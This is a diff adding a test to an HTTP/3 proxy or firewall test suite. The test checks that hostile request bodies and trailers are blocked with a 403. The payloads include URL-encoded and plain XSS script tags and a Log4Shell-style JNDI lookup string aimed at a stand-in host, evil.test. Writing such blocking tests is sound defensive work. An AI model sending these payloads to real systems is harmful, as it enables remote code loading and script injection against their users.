@@ -109,6 +109,20 @@ describe("a request over HTTP/3", () => {
     client.close();
   });
 
+  test.each(["/stream/t", "/node/t"])("a hostile body without a type, and a hostile trailer: %s", async (path) => {
+    const seen = origin.requests.length;
+    const hostile = [
+      { pieces: [Buffer.from("q=%3Cscript%3Ealert(1)%3C/script%3E")] },
+      { pieces: [Buffer.from("body")], trailers: { "x-api-version": "${jndi:ldap://evil.test/a}" } },
+    ];
+    for (const sending of hostile) {
+      const client = await H3Client.connect(port);
+      expect((await client.ask("POST", path, {}, sending)).status).toBe(403);
+      client.close();
+    }
+    expect(origin.requests.length).toBe(seen);
+  });
+
   test("an attack is blocked, and the connection takes no further request", async () => {
     const client = await H3Client.connect(port);
     const reply = await client.ask("GET", "/node/?q=<script>alert(1)</script>");
